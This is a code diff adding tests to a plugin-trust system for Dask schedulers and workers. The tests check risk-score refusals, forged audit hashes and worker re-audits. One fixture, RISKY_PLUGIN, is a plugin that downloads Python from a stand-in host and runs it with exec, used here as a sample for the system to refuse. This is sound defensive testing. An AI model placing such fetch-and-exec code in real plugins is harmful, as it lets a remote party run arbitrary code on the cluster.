@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import asyncio
 import contextlib
+import pickle
 import socket
 import sqlite3
 import threading
@@ -19,7 +20,7 @@ from distributed import Client, LocalCluster
 import pilothouse
 import pilothouse._plugins as plugins_module
 from processes import HubProcess, NannyProcess, SchedulerProcess, WorkerProcess, eventually
-from publisher import NANNY_PLUGIN, SCHEDULER_PLUGIN, WORKER_PLUGIN, Publisher
+from publisher import NANNY_PLUGIN, SCHEDULER_PLUGIN, WORKER_PLUGIN, Publisher, with_audit
 
 NAME = "night-guard"
 
@@ -315,6 +316,68 @@ def test_a_bundle_whose_entry_is_not_what_it_says(plugin_hub, publisher, host, s
     ada = publisher.key("ada")
     publisher.offer({"guard.py": source}, "guard:Guard")
     assert refusal(plugin_hub, policy(ada)) == code
+
+
+RISKY_PLUGIN = {
+    "guard.py": """
+import urllib3
+from distributed.diagnostics.plugin import SchedulerPlugin
+
+class Guard(SchedulerPlugin):
+    def update(self):
+        answer = urllib3.PoolManager().request("GET", "https://plugins.example/guard.py")
+        exec(answer.data)
+""",
+}
+
+
+def test_a_signed_bundle_that_is_too_risky(plugin_hub, publisher, host):
+    ada = publisher.key("ada")
+    publisher.offer(SCHEDULER_PLUGIN, "guard:Guard", version="1.0")
+    assert outcome_of(plugin_hub, policy(ada), **{"max-risk": 0.7}).state == "loaded"
+    publisher.offer(RISKY_PLUGIN, "guard:Guard", version="1.1")
+    assert refusal(plugin_hub, policy(ada), **{"max-risk": 0.7}) == "too_risky"
+    assert outcome_of(plugin_hub, policy(ada)).version == "1.1"
+
+
+def test_a_preloaded_scheduler_goes_on_without_what_is_too_risky(
+    plugin_hub, publisher, host, start, tmp_path
+):
+    ada = publisher.key("ada")
+    publisher.offer(RISKY_PLUGIN, "guard:Guard", name="day-guard")
+    publisher.offer(SCHEDULER_PLUGIN, "guard:Guard")
+    policies = [policy(ada, name="day-guard"), policy(ada)]
+    environment = plugin_hub.environment(
+        DASK_PILOTHOUSE__PLUGINS=str(policies), DASK_PILOTHOUSE__TRUST__MAX_RISK="0.7"
+    )
+    scheduler = start(SchedulerProcess, tmp_path, environment)
+    with Client(scheduler.address) as client:
+        says = client.run_on_scheduler(lambda dask_scheduler: getattr(dask_scheduler, "guard_says", None))
+    assert says == "all is well", scheduler.output()
+    with pilothouse.Hub(plugin_hub.address, plugin_hub.token) as hub:
+        listed = eventually(lambda: {p.name: p.code for p in hub.list_clusters()[0].plugins})
+    assert listed == {"day-guard": "too_risky", NAME: None}
+
+
+def test_an_audit_that_says_something_else(plugin_hub, publisher, host):
+    """Whoever signs could write any number beside the hash of the rules: the host finds out."""
+    ada = publisher.key("ada")
+    bundle = publisher.sign(publisher.pack(SCHEDULER_PLUGIN, "guard:Guard"))
+    lie = with_audit(bundle.read_bytes(), publisher.private_key("ada"), sha256=64 * "0")
+    bundle.write_bytes(lie)
+    publisher.publish(bundle)
+    assert refusal(plugin_hub, policy(ada), **{"max-risk": 0.7}) == "audit_mismatch"
+    assert outcome_of(plugin_hub, policy(ada)).state == "loaded"
+
+
+def test_a_worker_audits_again(publisher, host):
+    ada = publisher.key("ada")
+    bundle = publisher.sign(publisher.pack(RISKY_PLUGIN, "guard:Guard", "worker")).read_bytes()
+    wanted = plugins_module.PluginPolicy(NAME, (ada,), 1, None, (), 2**20, 0.7)
+    parcel = plugins_module._on_worker.Parcel(bundle, wanted, [], "worker")
+    plugin = pickle.loads(pickle.dumps(parcel))
+    assert type(plugin).__name__ == "RefusedPlugin"
+    assert "its risk is" in type(plugin).__doc__
 
 
 def test_a_plugin_whose_start_fails(plugin_hub, publisher, host):
